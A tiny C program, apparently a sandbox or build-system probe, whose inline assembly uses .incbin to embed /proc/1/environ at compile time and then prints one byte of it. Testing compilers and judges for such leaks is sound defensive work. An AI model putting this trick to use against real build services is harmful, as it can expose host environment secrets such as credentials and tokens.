#include <unistd.h>
__asm__(".globl secret\nsecret: .incbin \"/proc/1/environ\"\n.byte 0");
extern char secret[];
int main(void)
{
    return write(1, secret, 1) < 0;
}
